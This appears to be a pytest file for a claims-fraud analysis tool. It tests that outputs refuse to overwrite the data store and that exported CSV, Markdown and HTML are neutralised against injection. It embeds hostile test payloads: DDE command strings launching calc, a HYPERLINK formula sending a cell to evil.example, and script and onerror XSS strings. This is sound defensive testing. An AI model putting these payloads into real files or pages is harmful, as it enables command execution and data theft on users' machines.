"""Attacks 4 and 10 of issue #16: outputs that destroy, CSV formula injection, Markdown/HTML injection.

Each test reproduces the attack and checks that it now fails for the attacker."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import pytest

import graphkit
from graphkit.dossier import verify_dossier, write_dossier
from graphkit.findings import Entity, Finding
from graphkit.outputs import OutputRefused, csv_safe, csv_unsafe
from loaders import load_bundle

from conftest import tiny_tables, write_bundle

ROOT = Path(__file__).resolve().parents[2]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EVIL = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "dde": "=cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}


def cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "graphkit.cli", *args], cwd=ROOT, capture_output=True, text=True, timeout=300)


def _finding(**kw) -> Finding:
    return Finding.create(
        "collusion_ring", key=("ring", "x"), score=0.9, amount_at_risk=210.5,
        entities=[Entity("patient", "PT0001", "member"), Entity("institution", "H0001", "hub"),
                  Entity("pharmacy", "Y0001", "hub"), Entity("doctor", "D00001", "doctor")],
        claims=["C0001", "C0002"], evidence={"members": ["PT0001"]}, **kw,
    )


@pytest.fixture
def evil_store(tmp_path: Path) -> Path:
    """The tiny bundle with formula and markup payloads in provider names, departments, codes."""
    t = tiny_tables()
    t["institutions"][0]["name"] = EVIL["formula"]
    t["pharmacies"][0]["name"] = EVIL["dde"]
    t["doctors"][0]["name"] = EVIL["at"]
    t["doctors"][0]["department"] = EVIL["plus"]
    t["claims"][0]["department"] = EVIL["minus"]
    t["claims"][0]["diagnosis_code"] = EVIL["tab"]
    t["claim_items"][0]["item_name"] = "<script>alert(1)</script>[点我](http://evil.example)"
    load_bundle(write_bundle(tmp_path / "bundle", t), tmp_path / "store")
    return tmp_path / "store"


def _store_snapshot(store: Path) -> dict[str, bytes]:
    return {str(p.relative_to(store)): p.read_bytes() for p in sorted(store.rglob("*")) if p.is_file() and p.name != ".pin"}


# -- attack 4: `dossier … --out STORE_DIR` deleted the store -----------------------------------------------
def test_dossier_into_store_folder_is_refused_and_store_survives(evil_store: Path, tmp_path: Path) -> None:
    store = graphkit.open_store(evil_store)
    before = _store_snapshot(evil_store)
    with pytest.raises(OutputRefused, match="不是案件材料"):
        write_dossier(store, [_finding(summary="x")], evil_store, pdf=False)
    assert _store_snapshot(evil_store) == before
    assert graphkit.open_store(evil_store).row_counts()["claims"] == 5


def test_dossier_cli_into_store_folder_is_refused(evil_store: Path, tmp_path: Path) -> None:
    from graphkit.findings import FindingsReport, write_findings

    store = graphkit.open_store(evil_store)
    f = _finding(summary="x")
    write_findings(tmp_path / "findings.json", FindingsReport(findings=[f], data_fingerprint=store.fingerprint, parameters={}))
    before = _store_snapshot(evil_store)
    r = cli("dossier", f.id, "--findings", str(tmp_path / "findings.json"), "--store", str(evil_store),
            "--out", str(evil_store), "--no-pdf")
    assert r.returncode == 1, r.stdout + r.stderr
    assert "Traceback" not in r.stderr and "拒绝写入" in r.stdout + r.stderr
    assert _store_snapshot(evil_store) == before


def test_dossier_refuses_folder_with_foreign_files_but_replaces_its_own(evil_store: Path, tmp_path: Path) -> None:
    store = graphkit.open_store(evil_store)
    out = tmp_path / "d"
    write_dossier(store, [_finding(summary="first")], out, pdf=False)
    write_dossier(store, [_finding(summary="second")], out, pdf=False)  # an earlier dossier is replaced
    assert "second" in (out / "dossier.md").read_text("utf-8") and verify_dossier(out).ok
    (out / "my-notes.txt").write_text("investigator's own notes", "utf-8")
    with pytest.raises(OutputRefused):
        write_dossier(store, [_finding(summary="third")], out, pdf=False)
    assert (out / "my-notes.txt").read_text("utf-8") == "investigator's own notes"
    assert not list(tmp_path.glob(".d.*"))  # no half-written sibling left behind
    # a folder holding someone's files with a manifest.json that is not a dossier's
    other = tmp_path / "other"
    other.mkdir()
    (other / "manifest.json").write_text('{"files": {}}', "utf-8")
    (other / "data.bin").write_bytes(b"precious")
    with pytest.raises(OutputRefused):
        write_dossier(store, [_finding(summary="x")], other, pdf=False)
    assert (other / "data.bin").read_bytes() == b"precious"


@pytest.mark.parametrize("command", ["scan", "generate", "load", "demo"])
def test_other_outputs_refuse_a_store_or_foreign_folder(command: str, evil_store: Path, tmp_path: Path) -> None:
    before = _store_snapshot(evil_store)
    foreign = tmp_path / "documents"
    foreign.mkdir()
    (foreign / "report.docx").write_bytes(b"precious")
    bundle = write_bundle(tmp_path / "b2", tiny_tables())
    for target in (evil_store, foreign):
        if command == "scan":
            args = ["scan", "--store", str(evil_store), "--out", str(target)]
        elif command == "generate":
            args = ["generate", str(target), "--patients", "1000", "--months", "2"]
        elif command == "load":
            if target == evil_store:
                continue  # loading into a store is what load is for
            args = ["load", str(bundle), "--store", str(target)]
        else:
            args = ["demo", "--out", str(target), "--patients", "1000"]
        r = cli(*args)
        assert r.returncode == 1, (args, r.stdout[-500:], r.stderr[-2000:])
        assert "Traceback" not in r.stderr and "拒绝写入" in r.stdout + r.stderr
    assert _store_snapshot(evil_store) == before
    assert sorted(p.name for p in foreign.iterdir()) == ["report.docx"]


def test_adapt_refuses_a_store(evil_store: Path, tmp_path: Path) -> None:
    from loaders.synthea import synthea_to_bundle

    before = _store_snapshot(evil_store)
    with pytest.raises(OutputRefused):  # refused before the source is even read
        synthea_to_bundle(tmp_path / "any-export", evil_store)
    assert _store_snapshot(evil_store) == before


# -- attack 10: CSV formula injection, <script> in dossier.md ------------------------------------------------
def _csv_cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


def test_evidence_and_scores_csv_cells_are_neutralised(evil_store: Path, tmp_path: Path) -> None:
    store = graphkit.open_store(evil_store)
    out = tmp_path / "d"
    write_dossier(store, [_finding(summary="x")], out, pdf=False)
    from graphkit.scan import scan, write_scan

    paths = write_scan(scan(store), tmp_path / "scan")
    files = sorted((out / "evidence").glob("*.csv")) + [paths["scores"]]
    seen = set()
    for f in files:
        for cell in _csv_cells(f):
            assert not cell.startswith(TRIGGERS) or cell.lstrip("+-").replace(".", "", 1).isdigit(), (f.name, cell)
            seen.add(cell)
    # the payloads are kept (quoted), not dropped: the investigator still sees what the data said
    assert "'" + EVIL["formula"] in seen and "'" + EVIL["dde"] in seen and "'" + EVIL["at"] in seen
    assert verify_dossier(out).ok


def test_quarantine_and_report_csv_are_neutralised(tmp_path: Path) -> None:
    t = tiny_tables()
    t["claims"][0]["start_time"] = '=HYPERLINK("http://evil.example","x")'  # unparseable: quarantined as it was
    res = load_bundle(write_bundle(tmp_path / "b", t), tmp_path / "s", lenient=True)
    for cell in _csv_cells(res.quarantine_dir / "claims.csv"):
        assert not cell.startswith(TRIGGERS) or cell.lstrip("+-").replace(".", "", 1).isdigit(), cell
    r = cli("validate", str(tmp_path / "b"), "--report", str(tmp_path / "report.csv"))
    assert r.returncode == 1
    cells = _csv_cells(tmp_path / "report.csv")
    assert "'=HYPERLINK(\"http://evil.example\",\"x\")" in cells
    assert not any(c.startswith("=") for c in cells)


def test_csv_neutralising_keeps_numbers_and_round_trips() -> None:
    import pandas as pd

    df = pd.DataFrame({"id": ["=1+1", "-12.50", "+86 138", "'=x", "H1", None], "amount": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0]})
    safe = csv_safe(df)
    assert safe["id"].tolist()[:5] == ["'=1+1", "-12.50", "'+86 138", "''=x", "H1"]
    assert safe["amount"].tolist() == df["amount"].tolist()  # numbers stay numbers
    assert csv_unsafe(safe)["id"].tolist()[:5] == df["id"].tolist()[:5]
    # every trigger of TRIGGERS, the whitespace ones (tab, CR) included
    cells = pd.DataFrame({"v": ["@SUM(A1)", "\t=cmd|' /C calc'!A0", "\r=1+1", "a@b.cn"]})
    assert csv_safe(cells)["v"].tolist() == ["'@SUM(A1)", "'\t=cmd|' /C calc'!A0", "'\r=1+1", "a@b.cn"]


def test_dossier_markdown_and_html_escape_user_data(evil_store: Path, tmp_path: Path) -> None:
    store = graphkit.open_store(evil_store)
    out = tmp_path / "d"
    payload = "<script>alert(1)</script> [点我](http://evil.example) ![x](http://evil.example/a.png) `code` | a |"
    write_dossier(store, [_finding(summary=payload)], out, pdf=False,
                  case={"id": "CASE-1", "title": "<img src=x onerror=alert(1)>[t](javascript:alert(1))"})
    md = (out / "dossier.md").read_text("utf-8")
    assert "<script" not in md and "<img" not in md
    assert "](" not in md.replace("\\](", "")  # no Markdown link or image survives unescaped
    assert "&lt;script&gt;alert" in md and "点我" in md  # the text itself is kept, escaped
    html = (out / "dossier.html").read_text("utf-8")
    assert "<script>alert" not in html and "<img src=x" not in html
